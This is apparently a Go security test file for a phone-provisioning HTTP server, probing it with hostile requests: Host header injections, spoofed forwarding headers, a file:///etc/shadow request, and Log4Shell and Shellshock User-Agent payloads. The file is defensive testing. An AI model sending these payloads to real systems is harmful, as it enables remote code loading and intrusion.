package httpapi

import (
	"fmt"
	"strings"
	"testing"
)

const phoneTarget = "/phoneprov/0011223344aa.cfg"

// raw is a request for the phone's file with these header lines, CRLF after each.
func raw(lines ...string) string {
	return "GET " + phoneTarget + " HTTP/1.1\r\n" + strings.Join(lines, "\r\n") + "\r\n\r\n"
}

// The Host header ends up in the phone's own file, where it is a name or an address; and nowhere else.
func TestHostAttacks(t *testing.T) {
	t.Parallel()
	hosts := []struct {
		name string
		raw  string
		want int
	}{
		{"none", raw("Connection: close"), 400},
		{"two", raw("Host: pbx.test", "Host: "+marker, "Connection: close"), 400},
		{"two that are the same", raw("Host: pbx.test", "host: pbx.test", "Connection: close"), 400},
		{"two in one", raw("Host: pbx.test, "+marker, "Connection: close"), 400},
		{"user", raw("Host: "+marker+"@evil.test", "Connection: close"), 400},
		{"path", raw("Host: evil.test/"+marker, "Connection: close"), 400},
		{"markup", raw("Host: <script>"+marker, "Connection: close"), 400},
		{"quote", raw(`Host: "`+marker, "Connection: close"), 400},
		{"substitution", raw("Host: ${SECRET}"+marker, "Connection: close"), 400},
		{"substitution without braces", raw("Host: $SECRET"+marker, "Connection: close"), 200},
		{"port that is none", raw("Host: pbx.test:"+marker, "Connection: close"), 200},
		{"port of an attacker", raw("Host: pbx.test:80:"+marker, "Connection: close"), 200},
		{"IPv6 that is none", raw("Host: [::1]"+marker+"_]", "Connection: close"), 200},
		{"blank", raw("Host: pbx.test "+marker, "Connection: close"), 400},
		{"not ASCII", raw("Host: pbx.\xc3\xa4"+marker, "Connection: close"), 400},
		{"long", raw("Host: "+strings.Repeat("a.", 200)+marker, "Connection: close"), 200},
		{"parent", raw("Host: ../"+marker, "Connection: close"), 400},
		{"percent", raw("Host: %0d%0a"+marker, "Connection: close"), 200},
		{"empty", raw("Host:", "Connection: close"), 200},
		{"in an absolute URI", "GET http://x" + marker + "@pbx.test" + phoneTarget + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 200},
		{"absolute URI of another path", "GET http://" + marker + "/../outside.txt HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 404},
		{"absolute URI of a file", "GET file:///etc/shadow HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 404},
		{"absolute URI without a host", "GET http:" + phoneTarget + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 200},
		{"absolute URI with a control character", "GET http://pbx.test\x01" + phoneTarget + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 400},
		{"opaque URI", "GET mailto:" + marker + " HTTP/1.1\r\nHost: pbx.test\r\nConnection: close\r\n\r\n", 404},
		{"forwarded", raw("Host: pbx.test", "X-Forwarded-Host: "+marker, "X-Forwarded-Server: "+marker, "Forwarded: host="+marker, "X-Original-URL: /"+marker, "X-Rewrite-URL: /"+marker, "Connection: close"), 404},
	}
	var tests []attackTest
	for _, tt := range hosts {
		tests = append(tests, attackTest{tt.name, tt.raw, one(tt.want)})
	}
	const file = "secret " + attackSecret + " of " + displayName + " at "
	runAttacks(t, tests, func(t *testing.T) *site { return newSite(t, "", nil) }, attackFile, file+"127.0.0.1\n")
}

// Whoever claims in a header to be of another network is not believed.
func TestForwardedAttacks(t *testing.T) {
	var tests []attackTest
	for _, line := range []string{
		"X-Forwarded-For: 192.0.2.1", "X-Real-IP: 192.0.2.1", "Forwarded: for=192.0.2.1", "True-Client-IP: 192.0.2.1", "Client-IP: 192.0.2.1",
		"X-Forwarded-For: 192.0.2.1\r\nX-Forwarded-For: 192.0.2.1", "X-Forwarded-For: " + strings.Repeat("192.0.2.1,", 1000), "Via: 1.1 192.0.2.1",
	} {
		tests = append(tests, attackTest{fmt.Sprintf("%.40q", line), request("GET", phoneTarget, line+"\r\n"), one(404)})
	}
	runAttacks(t, tests, func(t *testing.T) *site {
		s := newSite(t, "", nil)
		s.strangers()
		return s
	})
}

func TestHeaderAttacks(t *testing.T) {
	t.Parallel()
	agents := map[string]string{
		"escape sequence": "\x1b]0;" + marker, "carriage return": "x\ry", "NUL": "x\x00y", "backspace": "x\x08\x08\x08",
		"forged line": `x","message":"refused","remote":"192.0.2.1"}`, "C1 control": "\xc2\x9b2J", "line separator": "x\xe2\x80\xa8y",
		"right to left": "\xe2\x80\xaex", "not UTF-8": "\xff\xfe", "long": strings.Repeat("x", 12<<10), "braces": "${SECRET}", "delete": "\x7f",
		"log4j": "${jndi:ldap://192.0.2.1/" + marker + "}", "shell": "() { :;}; echo " + marker,
	}
	refused := map[string]bool{"carriage return": true} // the others are served: a real phone has such
	var tests []attackTest
	for name, agent := range agents {
		status := 200
		if refused[name] {
			status = 400
		}
		tests = append(tests, attackTest{"User-Agent, " + name, request("GET", phoneTarget, "User-Agent: "+agent+"\r\n"), one(status)})
	}
	tests = append(tests,
		attackTest{"many headers", request("GET", phoneTarget, strings.Repeat("X: y\r\n", 10000)), one(431)},
		attackTest{"one huge header", request("GET", phoneTarget, "X: "+strings.Repeat("y", 64<<10)+"\r\n"), one(431)},
		attackTest{"huge target", get("/phoneprov/" + strings.Repeat("a/", 64<<10)), one(431)},
		attackTest{"huge method", request(strings.Repeat("A", 64<<10), phoneTarget, ""), one(431)},
		attackTest{"header name with a blank", request("GET", phoneTarget, "X Y: z\r\n"), one(400)},
		attackTest{"header name that is not ASCII", request("GET", phoneTarget, "X\xc3\xa4: z\r\n"), one(400)},
		attackTest{"header without a colon", request("GET", phoneTarget, "garbage\r\n"), one(400)},
		attackTest{"header without a name", request("GET", phoneTarget, ": z\r\n"), one(400)},
		attackTest{"many ranges", request("GET", "/phoneprov/fw.bin", "Range: bytes="+strings.Repeat("0-,", 3000)+"0-\r\n"), one(200)},
		attackTest{"huge entity tag", request("GET", phoneTarget, "If-None-Match: \""+strings.Repeat("x", 12<<10)+"\"\r\n"), one(200)},
		attackTest{"method in lower case", request("get", phoneTarget, ""), one(405)},
		attackTest{"method override", request("POST", phoneTarget, "X-HTTP-Method-Override: DELETE\r\n"), one(201)},
		attackTest{"TRACE", request("TRACE", phoneTarget, "X: "+marker+"\r\n"), one(405)},
		attackTest{"CONNECT", "CONNECT 192.0.2.1:25 HTTP/1.1\r\nHost: 192.0.2.1:25\r\nConnection: close\r\n\r\n", one(404)},
		attackTest{"OPTIONS of all", request("OPTIONS", "*", ""), one(404)},
		attackTest{"upgrade", request("GET", phoneTarget, "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"), one(200)},
		attackTest{"HTTP/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", one(405)},
		attackTest{"HTTP/0.9", "GET " + phoneTarget + "\r\n\r\n", one(400)},
		attackTest{"HTTP/3.0", "GET " + phoneTarget + " HTTP/3.0\r\nHost: x\r\n\r\n", one(505)},
		attackTest{"TLS to the plain port", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", one(400)},
		attackTest{"SIP", "REGISTER sip:pbx.test SIP/2.0\r\nVia: SIP/2.0/UDP x\r\n\r\n", one(400)},
		attackTest{"proxy protocol", "PROXY TCP4 192.0.2.1 192.0.2.2 1 80\r\n" + get(phoneTarget), one(400)},
	)
	runAttacks(t, tests, func(t *testing.T) *site { return newSite(t, "", nil) }, attackFile, "0123456789")
}
